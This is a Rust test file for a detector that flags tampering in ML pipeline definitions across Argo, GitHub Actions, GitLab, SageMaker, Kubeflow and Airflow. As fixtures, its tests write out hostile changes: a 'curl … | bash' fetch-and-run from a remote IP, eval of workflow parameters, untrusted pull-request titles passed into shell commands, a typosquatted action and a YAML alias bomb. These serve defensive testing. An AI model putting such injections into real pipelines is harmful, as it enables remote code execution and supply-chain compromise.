use super::super::git::tests::commit;
use super::gates::loosened;
use super::*;
use crate::procedure::{Severity, Verdict};
use crate::triage::examine::tests::{case_of, run};
use std::fs;
use std::path::Path;

const TOML: &str = "[case]\nid = \"x\"\n[pipeline]\nbaseline = \"old\"\ncurrent = \"new\"\n";

fn outcome_in(dir: &Path, name: &str, old: &str, new: &str) -> Outcome {
    for (folder, text) in [("old", old), ("new", new)] {
        let path = dir.join(folder).join(name);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, text).unwrap();
    }
    run(&DEFINITION_CHANGES, &case_of(dir, TOML))
}

fn outcome(name: &str, old: &str, new: &str) -> Outcome {
    outcome_in(tempfile::tempdir().unwrap().path(), name, old, new)
}

/// Codes of what is accused, in order of severity.
fn codes(name: &str, old: &str, new: &str) -> Vec<String> {
    let out = outcome(name, old, new);
    let all = out.measures["sightings"].as_array().unwrap();
    assert_eq!(out.verdict == Verdict::Flagged, !all.is_empty(), "{}", out.summary);
    all.iter().map(|s| s["code"].as_str().unwrap().to_owned()).collect()
}

/// `old` with pieces replaced; each must be there.
fn with(old: &str, pairs: &[(&str, &str)]) -> String {
    pairs.iter().fold(old.to_owned(), |text, (from, to)| {
        assert!(text.contains(from), "{from}");
        text.replace(from, to)
    })
}

const ARGO: &str = r#"
apiVersion: argoproj.io/v1alpha1
kind: CronWorkflow
metadata: {name: signs}
spec:
  schedule: "0 2 * * *"
  workflowSpec:
    entrypoint: main
    templates:
    - name: main
      dag:
        tasks:
        - {name: ingest, template: ingest}
        - {name: validate-data, template: validate, dependencies: [ingest]}
        - {name: train, template: train, dependencies: [validate-data]}
        - {name: evaluate, template: evaluate, dependencies: [train]}
        - name: deploy
          template: deploy
          dependencies: [evaluate]
          when: "{{tasks.evaluate.outputs.parameters.accuracy}} >= 0.95"
    - name: ingest
      container: {image: registry.corp.example/ml/ingest:1.4, command: [python, ingest.py], args: [--from, s3://corp-signs/raw/2026-03-01]}
    - name: validate
      container: {image: registry.corp.example/ml/validate:1.4, command: [python, validate.py], args: [--max-drift, "0.05"]}
    - name: train
      container: {image: registry.corp.example/ml/train:2.0, command: [python, train.py]}
    - name: evaluate
      container: {image: registry.corp.example/ml/train:2.0, command: [python, evaluate.py], args: [--min-accuracy, "0.95"]}
    - name: deploy
      container: {image: registry.corp.example/ml/deploy:1.0, command: [./deploy.sh]}
"#;

#[test]
fn argo_benign_changes_are_notes() {
    let new = with(
        ARGO,
        &[
            ("ingest:1.4", "ingest:1.5"),
            ("2026-03-01", "2026-03-08"),
            ("\"0 2 * * *\"", "'30 3 * * *'"),
            (
                "- {name: train, template: train, dependencies: [validate-data]}",
                "# trains\n        - name: fit-model\n          template: train\n          dependencies:\n          - validate-data",
            ),
            ("dependencies: [train]", "dependencies: [fit-model]"),
            ("\"0.05\"", "\"0.04\""),
            (
                "    - name: deploy\n      container",
                "    - name: tell\n      container: {image: registry.corp.example/ml/tell:1.0, command: [./tell.sh]}\n    - name: deploy\n      container",
            ),
            (
                "        - name: deploy\n",
                "        - {name: tell, template: tell, dependencies: [evaluate]}\n        - name: deploy\n",
            ),
        ],
    );
    let out = outcome("w.yaml", ARGO, &new);
    assert_eq!(out.verdict, Verdict::NothingFound, "{:#?}", out.findings);
    assert!(out.measures["note_count"].as_u64().unwrap() >= 4, "{:?}", out.measures["notes"]);
    assert_eq!(codes("w.yaml", ARGO, ARGO), [""; 0]);
}

#[test]
fn argo_tampering() {
    let gone = with(
        ARGO,
        &[
            ("        - {name: validate-data, template: validate, dependencies: [ingest]}\n", ""),
            ("[validate-data]", "[ingest]"),
        ],
    );
    assert_eq!(codes("w.yaml", ARGO, &gone), ["step.removed"]);
    let free = with(ARGO, &[("dependencies: [validate-data]", "dependencies: [ingest]")]);
    assert_eq!(codes("w.yaml", ARGO, &free), ["order.gate"]);
    let lax =
        with(ARGO, &[("dependencies: [ingest]}", "dependencies: [ingest], continueOn: {failed: true}}")]);
    assert_eq!(codes("w.yaml", ARGO, &lax), ["step.tolerant"]);
    let bar = with(
        ARGO,
        &[(
            "\"{{tasks.evaluate.outputs.parameters.accuracy}} >= 0.95\"",
            "\"{{tasks.evaluate.outputs.parameters.accuracy}} >= 0.5\"",
        )],
    );
    assert_eq!(codes("w.yaml", ARGO, &bar), ["gate.lowered"]);
    let bar = with(ARGO, &[("--max-drift, \"0.05\"", "--max-drift, \"0.5\"")]);
    assert_eq!(codes("w.yaml", ARGO, &bar), ["gate.lowered"]);
    let image = with(
        ARGO,
        &[(
            "registry.corp.example/ml/train:2.0, command: [python, train.py]",
            "docker.io/mltools/train:2.0, command: [python, train.py]",
        )],
    );
    assert_eq!(codes("w.yaml", ARGO, &image), ["image.source"]);
    let source = with(ARGO, &[("s3://corp-signs/raw/", "s3://signs-mirror/raw/")]);
    assert_eq!(codes("w.yaml", ARGO, &source), ["source.bucket", "source.path"]);
    let path = with(
        ARGO,
        &[
            (
                "        - name: deploy\n",
                "        - {name: fetch-extra, template: ingest}\n        - name: deploy\n",
            ),
            ("dependencies: [validate-data]", "dependencies: [validate-data, fetch-extra]"),
        ],
    );
    assert_eq!(codes("w.yaml", ARGO, &path), ["path.data"]);
    let around = with(
        ARGO,
        &[(
            "        - name: deploy\n",
            "        - {name: deploy-canary, template: deploy, dependencies: [train]}\n        - name: deploy\n",
        )],
    );
    assert_eq!(codes("w.yaml", ARGO, &around), ["path.around"]);
    let idle = with(
        ARGO,
        &[("command: [python, validate.py], args: [--max-drift, \"0.05\"]", "command: [sh, -c, 'echo ok']")],
    );
    assert_eq!(codes("w.yaml", ARGO, &idle), ["step.neutered"]);
    let often = with(ARGO, &[("0 2 * * *", "*/10 * * * *")]);
    assert_eq!(codes("w.yaml", ARGO, &often), ["trigger.schedule"]);
    let code = with(
        ARGO,
        &[("command: [./deploy.sh]", "command: [sh, -c, 'eval \"{{workflow.parameters.post}}\"']")],
    );
    assert!(codes("w.yaml", ARGO, &code).contains(&"parameter.code".to_owned()));
    let fetched = with(
        ARGO,
        &[(
            "command: [python, train.py]",
            "command: [sh, -c, 'curl -s http://198.51.100.7/x.sh | bash; python train.py']",
        )],
    );
    assert_eq!(codes("w.yaml", ARGO, &fetched), ["fetch.run", "source.plain"]);
}

const GITHUB: &str = r"
name: train
on:
  push:
    branches: [main]
permissions:
  contents: read
jobs:
  data:
    runs-on: ubuntu-24.04
    steps:
      - uses: actions/checkout@v4
      - name: Validate data
        run: python validate.py --strict
  train:
    needs: data
    runs-on: gpu
    steps:
      - uses: actions/checkout@v4
      - run: pip install -r requirements.txt --require-hashes
      - name: Train
        run: python train.py --epochs 10
  release:
    needs: [train]
    if: github.ref == 'refs/heads/main'
    environment: production
    runs-on: ubuntu-24.04
    steps:
      - name: Evaluate
        run: python evaluate.py --min-f1 0.9
      - name: Publish
        run: ./publish.sh
";

#[test]
fn github_benign_and_tampered() {
    let file = ".github/workflows/train.yml";
    let fine = with(
        GITHUB,
        &[
            ("checkout@v4", "checkout@v5"),
            ("name: Train\n", "name: Train the model\n"),
            ("ubuntu-24.04", "ubuntu-26.04"),
            ("--epochs 10", "--epochs 12"),
            ("  push:", "  workflow_dispatch:\n  push:"),
        ],
    );
    assert_eq!(codes(file, GITHUB, &fine), [""; 0]);
    for (change, wanted) in [
        (&[("needs: data\n", "\n")][..], &["order.gate"][..]),
        (&[("--strict", "--strict || true")], &["step.neutered"]),
        (
            &[(
                "        run: python validate.py",
                "        if: ${{ false }}\n        run: python validate.py",
            )],
            &["step.skipped"],
        ),
        (
            &[(
                "        run: python evaluate.py",
                "        continue-on-error: true\n        run: python evaluate.py",
            )],
            &["step.tolerant"],
        ),
        (&[("    environment: production\n", "")], &["gate.removed"]),
        (&[("github.ref == 'refs/heads/main'", "always()")], &["gate.removed"]),
        (&[("  push:", "  pull_request_target:\n  push:")], &["trigger.added"]),
        (&[("contents: read", "contents: write")], &["step.permission"]),
        (
            &[("uses: actions/checkout@v4\n      - run", "uses: acti0ns/checkout@v4\n      - run")],
            &["image.source"],
        ),
        (&[("./publish.sh", "./publish.sh \"${{ github.event.pull_request.title }}\"")], &["parameter.code"]),
    ] {
        let out = outcome(file, GITHUB, &with(GITHUB, change));
        let got: Vec<&str> = out.measures["sightings"]
            .as_array()
            .unwrap()
            .iter()
            .map(|s| s["code"].as_str().unwrap())
            .collect();
        // A step that is said twice over (each step of a job) is one kind.
        let mut kinds = got.clone();
        kinds.dedup();
        assert_eq!(kinds, wanted, "{change:?}: {:#?}", out.measures["sightings"]);
    }
}

#[test]
fn gitlab_sagemaker_kubeflow_and_tekton() {
    let gitlab = "stages: [prepare, check, train, deploy]\n.base: &b\n  image: registry.corp.example/py:3.12\nfetch:\n  <<: *b\n  stage: prepare\n  script: [python fetch.py]\nvalidate:\n  <<: *b\n  stage: check\n  script: [python validate.py]\nfit:\n  <<: *b\n  stage: train\n  script: [python train.py]\nrollout:\n  extends: .base\n  stage: deploy\n  script: [./roll.sh]\n  when: manual\n";
    assert_eq!(codes(".gitlab-ci.yml", gitlab, &with(gitlab, &[("py:3.12", "py:3.13")])), [""; 0]);
    assert_eq!(
        codes(
            ".gitlab-ci.yml",
            gitlab,
            &with(
                gitlab,
                &[(
                    "  script: [python validate.py]",
                    "  script: [python validate.py]\n  allow_failure: true"
                )]
            )
        ),
        ["step.tolerant"]
    );
    assert_eq!(
        codes(
            ".gitlab-ci.yml",
            gitlab,
            &with(
                gitlab,
                &[("  script: [python train.py]", "  needs: [fetch]\n  script: [python train.py]")]
            )
        ),
        ["order.gate"]
    );
    assert_eq!(
        codes(
            ".gitlab-ci.yml",
            gitlab,
            &with(
                gitlab,
                &[("  script: [./roll.sh]\n  when: manual", "  script: [./roll.sh]\n  when: always")]
            )
        ),
        ["gate.removed"]
    );

    let sage = r#"{"Version": "2020-12-01", "Parameters": [{"Name": "Epochs", "DefaultValue": 10}], "Steps": [
      {"Name": "Preprocess", "Type": "Processing", "Arguments": {"AppSpecification": {"ImageUri": "1.dkr.ecr.eu-west-1.amazonaws.com/sk:1"}, "ProcessingInputs": [{"S3Input": {"S3Uri": "s3://corp/raw"}}]}},
      {"Name": "Train", "Type": "Training", "DependsOn": ["Preprocess"], "Arguments": {"AlgorithmSpecification": {"TrainingImage": "x"}}},
      {"Name": "Evaluate", "Type": "Processing", "Arguments": {"In": {"Get": "Steps.Train.ModelArtifacts"}}},
      {"Name": "Bar", "Type": "Condition", "Arguments": {"Conditions": [{"Type": "GreaterThanOrEqualTo", "LeftValue": {"Std:JsonGet": {"PropertyFile": {"Get": "Steps.Evaluate.PropertyFiles.R"}}}, "RightValue": 0.9}],
        "IfSteps": [{"Name": "RegisterModel", "Type": "RegisterModel", "Arguments": {}}], "ElseSteps": []}}]}"#;
    let pretty: serde_json::Value = serde_json::from_str(sage).unwrap();
    assert_eq!(codes("p.json", sage, &serde_json::to_string_pretty(&pretty).unwrap()), [""; 0]);
    assert_eq!(
        codes("p.json", sage, &with(sage, &[("\"RightValue\": 0.9", "\"RightValue\": 0.1")])),
        ["gate.lowered"]
    );
    assert_eq!(
        codes("p.json", sage, &with(sage, &[("s3://corp/raw", "s3://corp-mirror/raw")])),
        ["source.bucket", "source.path"]
    );
    let direct = with(
        sage,
        &[
            ("\"ElseSteps\": []", "\"ElseSteps\": []"),
            ("\"Arguments\": {}}]", "\"Arguments\": {}}]"),
            (
                "]}}]}",
                "]}}, {\"Name\": \"DeployNow\", \"Type\": \"Lambda\", \"DependsOn\": [\"Train\"], \"Arguments\": {}}]}",
            ),
        ],
    );
    let first = with(sage, &[("RegisterModel\", \"Type\"", "DeployModel\", \"Type\"")]);
    let second = with(&direct, &[("RegisterModel\", \"Type\"", "DeployModel\", \"Type\"")]);
    assert_eq!(codes("p.json", &first, &second), ["path.around"]);

    let kfp = "pipelineInfo: {name: p}\nroot:\n  dag:\n    tasks:\n      ingest:\n        componentRef: {name: comp-ingest}\n      validate:\n        componentRef: {name: comp-validate}\n        dependentTasks: [ingest]\n        inputs: {artifacts: {d: {taskOutputArtifact: {producerTask: ingest}}}}\n      train:\n        componentRef: {name: comp-train}\n        dependentTasks: [validate]\ncomponents:\n  comp-ingest: {executorLabel: exec-ingest}\n  comp-validate: {executorLabel: exec-validate}\n  comp-train: {executorLabel: exec-train}\ndeploymentSpec:\n  executors:\n    exec-ingest: {container: {image: 'r.corp.example/a/b@sha256:aa', command: [python, i.py]}}\n    exec-validate: {container: {image: 'r.corp.example/a/b@sha256:aa', command: [python, v.py]}}\n    exec-train: {container: {image: 'r.corp.example/a/b@sha256:aa', command: [python, t.py]}}\n";
    assert_eq!(codes("k.yaml", kfp, kfp), [""; 0]);
    assert_eq!(
        codes("k.yaml", kfp, &with(kfp, &[("dependentTasks: [validate]", "dependentTasks: [ingest]")])),
        ["order.gate"]
    );
    assert_eq!(
        codes(
            "k.yaml",
            kfp,
            &with(
                kfp,
                &[(
                    "exec-train: {container: {image: 'r.corp.example/a/b@sha256:aa'",
                    "exec-train: {container: {image: 'r.corp.example/a/b:latest'"
                )]
            )
        ),
        ["image.unpinned"]
    );
    let tekton = "kind: Pipeline\nmetadata: {name: p}\nspec:\n  tasks:\n  - {name: fetch, taskRef: {name: fetch}}\n  - {name: scan, taskRef: {name: scan}, runAfter: [fetch]}\n  - {name: train, taskRef: {name: train}, runAfter: [scan]}\n";
    assert_eq!(
        codes("t.yaml", tekton, &with(tekton, &[("runAfter: [scan]", "runAfter: [fetch]")])),
        ["order.gate"]
    );
}

const AIRFLOW: &str = r#"
from airflow import DAG
from airflow.operators.bash import BashOperator
from airflow.operators.python import PythonOperator
def check(**kw):
    assert drift(kw["data"]) < 0.1
with DAG("signs", schedule_interval="@daily") as dag:
    ingest = BashOperator(task_id="ingest", bash_command="python ingest.py --from s3://corp/raw/{{ ds }}")
    validate = PythonOperator(task_id="validate", python_callable=check)
    train = BashOperator(task_id="train", bash_command="python train.py")
    deploy = BashOperator(task_id="deploy", bash_command="./deploy.sh")
    ingest >> validate >> train >> deploy
"#;

#[test]
fn airflow_and_sdk_pipelines() {
    let fine = with(
        AIRFLOW,
        &[
            ("\"", "'"),
            (
                "    ingest >> validate >> train >> deploy",
                "    # the order\n    ingest >> validate\n    validate.set_downstream(train)\n    train >> [deploy]",
            ),
        ],
    );
    assert_eq!(codes("d.py", AIRFLOW, &fine), [""; 0]);
    for (change, wanted) in [
        (
            &[("ingest >> validate >> train >> deploy", "ingest >> [validate, train]\n    train >> deploy")]
                [..],
            "order.gate",
        ),
        (&[("task_id=\"train\",", "task_id=\"train\", trigger_rule=\"all_done\",")], "step.tolerant"),
        (
            &[(
                "validate = PythonOperator(task_id=\"validate\", python_callable=check)",
                "validate = EmptyOperator(task_id=\"validate\")",
            )],
            "step.neutered",
        ),
        (&[("./deploy.sh", "{{ dag_run.conf['cmd'] }}")], "parameter.code"),
        (&[("s3://corp/raw/{{ ds }}", "http://mirror.example.net/raw")], "source.plain"),
        (&[("\"@daily\"", "\"*/5 * * * *\"")], "trigger.schedule"),
    ] {
        let got = codes("d.py", AIRFLOW, &with(AIRFLOW, change));
        assert!(got.contains(&wanted.to_owned()), "{change:?}: {got:?}");
    }
    let flow = "from airflow.decorators import dag, task\n@task\ndef ingest():\n    return 1\n@task\ndef validate(x):\n    assert x\n    return x\n@task\ndef train(x):\n    pass\n@dag(schedule=\"@daily\")\ndef signs():\n    a = ingest()\n    b = validate(a)\n    train(b)\nsigns()\n";
    assert_eq!(codes("f.py", flow, flow), [""; 0]);
    assert_eq!(
        codes(
            "f.py",
            flow,
            &with(flow, &[("    b = validate(a)\n    train(b)", "    validate(a)\n    train(a)")])
        ),
        ["order.gate"]
    );
    let sdk = "from kfp import dsl\n@dsl.component(base_image='r.corp.example/x:1')\ndef validate(d: str):\n    pass\n@dsl.component(base_image='r.corp.example/x:1')\ndef train(d: str):\n    pass\n@dsl.pipeline\ndef p():\n    v = validate(d='s3://corp/a')\n    t = train(d='s3://corp/a').after(v)\n";
    assert_eq!(codes("k.py", sdk, &with(sdk, &[(".after(v)", "")])), ["order.gate"]);
}

#[test]
fn the_commits_that_did_it() {
    let dir = tempfile::tempdir().unwrap();
    let bad = with(ARGO, &[("dependencies: [validate-data]", "dependencies: [ingest]")]);
    let repo = dir.path().join("new");
    fs::create_dir_all(&repo).unwrap();
    for (i, (text, message)) in
        [("a", "Begin (#1)"), ("b", "Go on (#2)"), (ARGO, "Add the pipeline (#3)"), (ARGO, "Other (#4)")]
            .iter()
            .enumerate()
    {
        commit(
            &repo,
            &[("w.yaml", text), ("n.txt", &i.to_string())],
            message,
            "gpgsig -----BEGIN\n x\n",
            1_700_000_000 + i as i64 * 1000,
        );
    }
    commit(&repo, &[("w.yaml", &bad), ("n.txt", "9")], "speed things up", "", 1_700_009_000);
    let out = outcome_in(dir.path(), "w.yaml", ARGO, &bad);
    let codes: Vec<_> =
        out.measures["sightings"].as_array().unwrap().iter().map(|s| s["code"].as_str().unwrap()).collect();
    assert_eq!(codes, ["order.gate", "history.unreviewed"]);
    let commits = out.measures["commits"].as_array().unwrap();
    assert_eq!(
        (commits.len(), &commits[0]["subject"], &commits[0]["signed"]),
        (1, &"speed things up".into(), &false.into())
    );
    assert!(out.findings[1].detail.contains("not signed, no review named"), "{}", out.findings[1].detail);
    // Edited on the machine, never committed.
    let other = with(&bad, &[("ingest:1.4", "ingest:1.9")]);
    let out = outcome_in(dir.path(), "w.yaml", ARGO, &other);
    assert!(out.findings.iter().any(|f| f.detail.contains("[history.uncommitted]")));
    // A repository that cannot be read is said and does not stop the rest.
    fs::write(repo.join(".git/HEAD"), "ref: refs/heads/none\n").unwrap();
    assert_eq!(outcome_in(dir.path(), "w.yaml", ARGO, ARGO).verdict, Verdict::NothingFound);
}

#[test]
fn hostile_definitions_are_refused_and_said() {
    let bomb = (1..14).fold("a0: &a0 [x,x,x,x,x,x,x,x,x]\n".to_owned(), |t, i| {
        t + &format!("a{i}: &a{i} [{}]\n", vec![format!("*a{}", i - 1); 9].join(","))
    });
    let out = outcome("w.yaml", ARGO, &bomb);
    assert_eq!(out.verdict, Verdict::Flagged, "the reviewed workflow is gone: {}", out.summary);
    assert!(out.measures["unread"].to_string().contains("aliases"), "{}", out.measures["unread"]);
    let out = outcome("w.yaml", "a: 1\n", &"[".repeat(5000));
    assert_eq!(out.verdict, Verdict::Inconclusive);
    let recursive = with(
        ARGO,
        &[(
            "      container: {image: registry.corp.example/ml/ingest:1.4, command: [python, ingest.py], args: [--from, s3://corp-signs/raw/2026-03-01]}",
            "      dag: {tasks: [{name: again, template: ingest}, {name: more, template: ingest}]}",
        )],
    );
    let out = outcome("w.yaml", ARGO, &recursive);
    assert!(out.measures["steps"][1].as_u64().unwrap() <= 2_000);
    assert!(matches!(
        loosened("min_accuracy", "0.9", "0.5").as_deref(),
        Some("min_accuracy from 0.9 to 0.5")
    ));
    assert_eq!(loosened("epochs", "1", "2"), None);
    assert!(out.findings.iter().all(|f| f.severity >= Severity::Low));
}
